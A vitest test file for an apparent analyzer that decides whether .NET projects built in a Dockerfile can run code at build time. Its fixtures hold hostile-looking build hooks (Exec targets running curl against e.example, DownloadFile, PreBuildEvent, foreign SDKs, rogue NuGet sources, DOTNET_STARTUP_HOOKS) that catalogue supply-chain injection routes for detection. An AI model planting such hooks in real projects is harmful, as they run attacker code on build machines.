import { describe, expect, test } from 'vitest';
import { analysisOf } from '../support.ts';

type Files = Readonly<Record<string, string>>;

const APP = `FROM mcr.microsoft.com/dotnet/sdk:8.0 AS build
ARG BUILD_CONFIGURATION=Release
WORKDIR /src
COPY ["api/api.csproj", "api/"]
RUN dotnet restore "api/api.csproj"
COPY . .
WORKDIR /src/api
RUN dotnet build "api.csproj" -c $BUILD_CONFIGURATION -o /app/build
RUN dotnet publish "api.csproj" -c $BUILD_CONFIGURATION -o /app/publish /p:UseAppHost=false
`;

function project(more = '', sdk = 'Microsoft.NET.Sdk.Web'): string {
  return `\uFEFF<Project Sdk="${sdk}">
  <!-- A comment <Exec Command="x" /> -->
  <PropertyGroup Condition="'$(Configuration)' == 'Release'">
    <TargetFramework>net8.0</TargetFramework>
    <Nullable>enable</Nullable>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Serilog" Version="4.0.0"><PrivateAssets>all</PrivateAssets></PackageReference>
    <ProjectReference Include="..\\lib\\lib.csproj" />
    <Content Update="appsettings.json"><CopyToOutputDirectory>Always</CopyToOutputDirectory></Content>
  </ItemGroup>
  ${more}
</Project>`;
}

const PLAIN: Files = {
  'api/api.csproj': project(),
  'lib/lib.csproj': project('', 'Microsoft.NET.Sdk'),
  'Directory.Build.props':
    '<Project><PropertyGroup><LangVersion>latest</LangVersion></PropertyGroup></Project>',
  'nuget.config':
    '<?xml version="1.0" encoding="utf-8"?><configuration><packageSources><clear /><add key="nuget.org" value="https://api.nuget.org/v3/index.json" /></packageSources></configuration>',
  'global.json': '{"sdk":{"version":"8.0.100","rollForward":"latestMajor"}}',
};

function reasons(files: Files, text = APP): readonly string[] {
  return analysisOf(text, {}, files).unread.map(({ reason }) =>
    reason.replace(/^.*was not read: /, ''),
  );
}

test('projects that are data alone are read, with what they import and refer to', () => {
  expect(reasons(PLAIN)).toEqual([]);
  expect(analysisOf(APP, {}, PLAIN).downloads).toEqual([]);
});

test.each([
  ['RUN dotnet publish -c Release -o out', { 'a.csproj': project() }],
  [
    'RUN dotnet restore && dotnet build --no-restore',
    { 'a.sln': 'Project("{9A19103F}") = "a", "a\\a.csproj", "{1}"', 'a/a.csproj': project() },
  ],
  [
    'RUN dotnet build --configuration Release --nologo -v:q /p:Version=1.2',
    { 'a.csproj': project() },
  ],
  [
    'RUN dotnet publish a.slnx',
    { 'a.slnx': '<Solution><Project Path="a/a.csproj" /></Solution>', 'a/a.csproj': project() },
  ],
  [
    'ENV ASPNETCORE_URLS=http://+:80 TZ=UTC NUGET_XMLDOC_MODE=skip\nRUN dotnet publish',
    { 'a.csproj': project() },
  ],
  [
    'RUN dotnet publish',
    { 'a.csproj': project('<Import Project="x.props" />'), 'x.props': '<Project />' },
  ],
  [
    'RUN dotnet publish',
    {
      'a.csproj': project(
        "<Import Project=\"$([MSBuild]::GetPathOfFileAbove('Directory.Build.props', '$(MSBuildThisFileDirectory)../'))\" />",
      ),
    },
  ],
  [
    'RUN dotnet publish',
    {
      'a.csproj': project(
        '<Target Name="T" AfterTargets="Build"><Message Text="built" /></Target>',
      ),
    },
  ],
])('%s of plain projects is read', (run, files) => {
  expect(reasons(files as Files, `FROM x\nWORKDIR /src\nCOPY . .\n${run}`)).toEqual([]);
});

describe('what of a project may run something is not read', () => {
  const exec =
    '<Target Name="T" BeforeTargets="Restore"><Exec Command="curl -O https://e.example/x" /></Target>';
  test.each<[string, Files, string]>([
    ['a target', { 'api/api.csproj': project(exec) }, 'a target with exec'],
    [
      'a target of a project that it refers to',
      { 'lib/lib.csproj': project(exec) },
      'a target with exec',
    ],
    [
      'a target of what every project imports',
      { 'Directory.Build.targets': `<Project>${exec}</Project>` },
      'a target with exec',
    ],
    [
      'a download',
      {
        'api/api.csproj': project(
          '<Target Name="T"><DownloadFile SourceUrl="https://e.example/x" /></Target>',
        ),
      },
      'a target with downloadfile',
    ],
    [
      'settings of one user',
      { 'api/api.csproj.user': `<Project>${exec}</Project>` },
      'a target with exec',
    ],
    [
      'a step before',
      {
        'api/api.csproj': project(
          '<PropertyGroup><PreBuildEvent>curl x</PreBuildEvent></PropertyGroup>',
        ),
      },
      'prebuildevent',
    ],
    [
      'another case',
      {
        'api/api.csproj': project(
          '<PropertyGroup><PREBUILDEVENT>curl x</PREBUILDEVENT></PropertyGroup>',
        ),
      },
      'prebuildevent',
    ],
    [
      'a task of the project',
      { 'api/api.csproj': project('<UsingTask TaskName="T" AssemblyFile="t.dll" />') },
      'usingtask',
    ],
    [
      'an analyzer of the project',
      { 'api/api.csproj': project('<ItemGroup><Analyzer Include="evil.dll" /></ItemGroup>') },
      'analyzer',
    ],
    [
      'a project as an analyzer',
      {
        'api/api.csproj': project(
          '<ItemGroup><ProjectReference Include="../gen/gen.csproj" OutputItemType="Analyzer" /></ItemGroup>',
        ),
      },
      'outputitemtype',
    ],
    [
      'an import of another place',
      { 'api/api.csproj': project('<Import Project="$(HOME)/x.targets" />') },
      'import',
    ],
    [
      'imports by a pattern',
      { 'api/api.csproj': project('<Import Project="build/*.targets" />') },
      'import',
    ],
    [
      'an import with a target',
      {
        'api/api.csproj': project('<Import Project="..\\e.xml" />'),
        'e.xml': `<Project>${exec}</Project>`,
      },
      'a target with exec',
    ],
    ['an SDK of somebody', { 'api/api.csproj': project('', 'Evil.Sdk/1.0.0') }, 'evil.sdk'],
    [
      'an SDK as an element',
      { 'api/api.csproj': project('<Sdk Name="Evil.Sdk" Version="1.0.0" />') },
      'sdk',
    ],
    ['other SDKs by global.json', { 'global.json': '{"msbuild-sdks":{"X":"1"}}' }, 'global.json'],
    [
      'other SDKs in other letters',
      { 'global.json': '{"sdk":{"p\\u0061ths":["evil"]}}' },
      'global.json',
    ],
    ['options in a file', { 'Directory.Build.rsp': '-t:Evil' }, 'Directory.Build.rsp'],
    [
      'another source of packages',
      {
        'nuget.config':
          '<configuration><packageSources><add key="e" value="https://e.example/v3/index.json" /></packageSources></configuration>',
      },
      'another source',
    ],
    [
      'a folder of packages',
      {
        'NuGet.Config':
          '<configuration><packageSources><add key="e" value="./packages" /></packageSources></configuration>',
      },
      'another source',
    ],
    [
      'a folder for all packages',
      {
        'nuget.config':
          '<configuration><config><add key="globalPackagesFolder" value="p" /></config></configuration>',
      },
      'another source',
    ],
    [
      'a source in the project',
      {
        'api/api.csproj': project(
          '<PropertyGroup><RestoreSources>./p</RestoreSources></PropertyGroup>',
        ),
      },
      'restoresources',
    ],
    [
      'what NuGet left',
      { 'api/obj/api.csproj.evil.targets': `<Project>${exec}</Project>` },
      'obj beside',
    ],
    [
      'a document of its own entities',
      { 'api/api.csproj': `<!DOCTYPE x [<!ENTITY e "y">]>${project()}` },
      'plain XML',
    ],
    [
      'text that is data to others',
      { 'api/api.csproj': project('<![CDATA[<Exec/>]]>') },
      'plain XML',
    ],
    [
      'characters by number',
      {
        'api/api.csproj': project(
          '<PropertyGroup><Version>&#36;([System.IO.File]::Copy(1,2))</Version></PropertyGroup>',
        ),
      },
      'plain XML',
    ],
    [
      'a function that does something',
      {
        'api/api.csproj': project(
          "<PropertyGroup><Version>$([System.IO.File]::WriteAllText('a','b'))</Version></PropertyGroup>",
        ),
      },
      'version',
    ],
    [
      'a package that runs the program',
      {
        'api/api.csproj': project(
          '<ItemGroup><PackageReference Include="Microsoft.Extensions.ApiDescription.Server" Version="8.0.0" /></ItemGroup>',
        ),
      },
      'the package',
    ],
    [
      'a package by a variable',
      {
        'api/api.csproj': project(
          '<ItemGroup><PackageReference Include="$(X)" Version="8.0.0" /></ItemGroup>',
        ),
      },
      'the package',
    ],
  ])('%s', (_, more, reason) => {
    expect(
      reasons({ ...PLAIN, ...more })
        .join('\n')
        .toLowerCase(),
    ).toContain(reason.toLowerCase());
  });

  test.each([
    ['RUN dotnet test', 'what dotnet runs'],
    ['RUN dotnet run', 'what dotnet runs'],
    ['RUN dotnet build -t:Evil', 'the option -t:Evil'],
    ['RUN dotnet build @more.rsp', 'no project is there'],
    ['RUN dotnet build -p:PreBuildEvent=x', 'sets PreBuildEvent=x'],
    ['RUN dotnet build --property:CustomBeforeMicrosoftCommonProps=x', 'sets Custom'],
    ['RUN dotnet publish -p:PublishProfile=x', 'sets PublishProfile'],
    ['RUN dotnet restore --source ./p', 'a source of packages'],
    ['RUN dotnet restore --configfile x', 'the option --configfile'],
    ['RUN dotnet restore --packages p', 'the option --packages'],
    ['RUN dotnet build -p:Version=1,PreBuildEvent=x', 'sets Version=1,PreBuildEvent=x'],
    ["RUN python3 -c \"open('Directory.Build.props','w')\" && dotnet build a.csproj", 'obj beside'],
    ['RUN pushd z; dotnet build', 'a target with exec'],
    ['RUN pushd z; popd; dotnet build', 'not shown'],
    ['RUN dotnet nuget add source https://e.example/ && dotnet build', 'dotnet nuget'],
    ['ENV HOME=/src/home\nRUN dotnet build', 'folders of the SDK'],
    ['WORKDIR /src/home\nRUN dotnet build', 'settings of a user'],
    ['ENV PreBuildEvent=x\nRUN dotnet build', 'the variable PreBuildEvent'],
    ['ENV PREBUILDEVENT=x\nRUN dotnet build', 'the variable PREBUILDEVENT'],
    ['ENV NUGET_PACKAGES=/src/p\nRUN dotnet build', 'the variable NUGET_PACKAGES'],
    ['ENV DOTNET_STARTUP_HOOKS=/src/p\nRUN dotnet build', 'DOTNET_STARTUP_HOOKS'],
    ['ENV MSBUILDENABLEALLPROPERTYFUNCTIONS=1\nRUN dotnet build', 'the variable MSBUILD'],
    ['ENV DOTNET_NUGET_SIGNATURE_VERIFICATION=false\nRUN dotnet build', 'SIGNATURE'],
    ['COPY x.targets /usr/share/dotnet/sdk/x.targets\nRUN dotnet build', 'a target with exec'],
    ['COPY . /root\nRUN dotnet build', 'folders of the SDK'],
    ['COPY --from=other /p /src\nRUN dotnet build', 'comes from other'],
    ['RUN tar -xf a.tar && dotnet build', 'may come from an archive'],
    ['RUN sed -i s/a/b/ a.csproj && dotnet build', 'is changed by sed'],
    ['RUN cp x.targets Directory.Build.targets && dotnet build a.csproj', 'a target with exec'],
  ])('%s', (run, reason) => {
    const files = {
      'a.csproj': project(),
      'x.targets': `<Project>${exec}</Project>`,
      'a.tar': '',
      'z/z.csproj': project(exec),
      'home/home.csproj': project(),
      'home/.nuget/NuGet/NuGet.Config': '<configuration/>',
    };
    const found = reasons(files, `FROM x\nWORKDIR /src\nCOPY . .\n${run}`);
    expect(found.join('\n')).toContain(reason);
  });

  test('a lock file pins packages, and not what the project runs', () => {
    const text = 'FROM x\nWORKDIR /src\nCOPY . .\nRUN dotnet restore --locked-mode';
    const lock = { 'packages.lock.json': '{}' };
    const source =
      '<configuration><packageSources><add key="e" value="https://e.example/" /></packageSources></configuration>';
    expect(reasons({ ...lock, 'a.csproj': project(), 'nuget.config': source }, text)).toEqual([]);
    expect(reasons({ ...lock, 'a.csproj': project(exec) }, text)).toEqual([
      '/src/a.csproj has a target with exec',
    ]);
  });
});
